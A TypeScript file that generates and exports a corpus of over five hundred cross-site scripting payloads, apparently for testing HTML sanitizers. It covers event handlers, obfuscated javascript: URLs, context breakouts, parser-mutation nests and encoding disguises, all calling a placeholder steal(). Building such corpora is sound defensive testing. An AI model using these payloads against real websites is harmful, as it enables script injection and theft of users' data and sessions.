/**
 * Ways to make a browser run what a stranger wrote, as families: what carries a script, times how it is written down.
 * Whatever is new in the world is a new carrier or a new disguise here.
 */

/** Elements with a handler that needs nobody’s help, or hardly any. `E` is the handler’s place. */
const SELF_STARTING = [
  '<img src=x E>',
  '<svg E>',
  '<body E>',
  '<video><source E></video>',
  '<audio src=x E>',
  '<input autofocus E>',
  '<select autofocus E>',
  '<textarea autofocus E>',
  '<details open E>',
  '<marquee E>',
  '<iframe E>',
  '<object data=x E>',
  '<embed src=x E>',
  '<link rel=stylesheet href=x E>',
  '<svg><animate attributeName=x dur=1s E>',
  '<a href=# id=x tabindex=1 E>x</a>',
  '<div contenteditable autofocus E>x</div>',
  '<dialog open E>x</dialog>',
  '<custom-element tabindex=1 autofocus E>x</custom-element>',
  '<math><mi tabindex=1 autofocus E>x</mi></math>',
]
const HANDLERS = [
  'error',
  'load',
  'focus',
  'toggle',
  'start',
  'begin',
  'pageshow',
  'pointerover',
  'animationstart',
]

/** How an attribute may be set apart and quoted. */
const WRITINGS: ((name: string, says: string) => string)[] = [
  (name, says) => `${name}=${says}`,
  (name, says) => `${name}="${says}"`,
  (name, says) => `\t${name}\n=\n'${says}'`,
  (name, says) => `/${name.toUpperCase()}=${says}//`,
]

const handlers = SELF_STARTING.flatMap((element, at) =>
  WRITINGS.flatMap((writing, how) =>
    [0, 5].map((further) => {
      const event = `on${HANDLERS[(at + how + further) % HANDLERS.length]}`
      return element.replace('E', () => writing(event, how % 2 ? 'steal(1)' : 'steal``'))
    }),
  ),
)

/** Attributes and syntax that lead somewhere. `U` is the address. */
const LEADING = [
  '[x](U)',
  '[x](<U>)',
  '<U>',
  '[x]: U\n\n[x]',
  '![x](U)',
  '<a href="U">x</a>',
  '<form action="U"><button>x</button></form>',
  '<button form=f formaction="U">x</button>',
  '<iframe src="U"></iframe>',
  '<svg><a xlink:href="U"><text>x</text></a></svg>',
  '<base href="U">',
  '<object data="U"></object>',
]

/** Addresses that are programs, in one disguise after another. */
const PROGRAMS = [
  'javascript:steal()',
  'JaVaScRiPt:steal()',
  ' javascript:steal()',
  'java\tscript:steal()',
  'java\nscript:steal()',
  '\u0001javascript:steal()',
  'javascript\u200b:steal()',
  'javascript&colon;steal&lpar;&rpar;',
  '&#106;avascript:steal()',
  '&#x6a;avascript:steal()',
  '&#0000106avascript:steal()',
  'javascript:%73teal()',
  'javascript://a.example/%0asteal()',
  'data:text/html,<svg onload=steal()>',
  'data:text/html;base64,PHN2ZyBvbmxvYWQ9c3RlYWwoKT4=',
  'vbscript:steal()',
]

const programs = LEADING.flatMap((carrier) => PROGRAMS.map((program) => carrier.replace('U', () => program)))

/** Out of wherever a text may stand, then in. */
const WAYS_OUT = [
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</xmp>',
  '</template>',
  '</svg>',
  '\\u003c/script>',
  '*/ ',
  "';",
  '";',
  '}};',
  '${',
  '{{',
  '\u2028',
  '&quot;&gt;',
]
const WAYS_IN = [
  '<script>steal()</script>',
  '<svg/onload=steal()>',
  'steal()//',
  '" autofocus onfocus="steal()',
  '<img src=x onerror=steal()>{{constructor.constructor("steal()")()}}',
]
const breakouts = WAYS_OUT.flatMap((out) => WAYS_IN.map((into) => out + into))

/** Elements that a browser’s parser moves about, so that what was checked is not what stands there. */
const NESTS = ['math', 'svg', 'table', 'select', 'noscript', 'template', 'form', 'frameset']
const INNER = [
  '<style><!--</style><img src=x onerror=steal()>-->',
  '<mtext><mglyph><style></math><img src=x onerror=steal()>',
  '<p id="</N><img src=x onerror=steal()>">',
  '<N><N><N><script>steal()</script>',
  '<title><a id="</title><svg onload=steal()>">',
]
const mutations = NESTS.flatMap((nest) => INNER.map((inner) => `<${nest}>${inner.replaceAll('N', nest)}`))

/** The same sign written otherwise, for whoever decodes once too often. */
const DISGUISES: ((text: string) => string)[] = [
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#x3c;').replaceAll('>', '&#62'),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => text.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('s', '\u017f'),
]
const HIDDEN = ['<script>steal()</script>', '<img src=x onerror=steal()>', '"><svg onload=steal()>']
const disguises = DISGUISES.flatMap((disguise) => HIDDEN.map(disguise))

/** All of them; more than five hundred, each once. */
export const VECTORS: readonly string[] = [
  ...new Set([...handlers, ...programs, ...breakouts, ...mutations, ...disguises]),
]
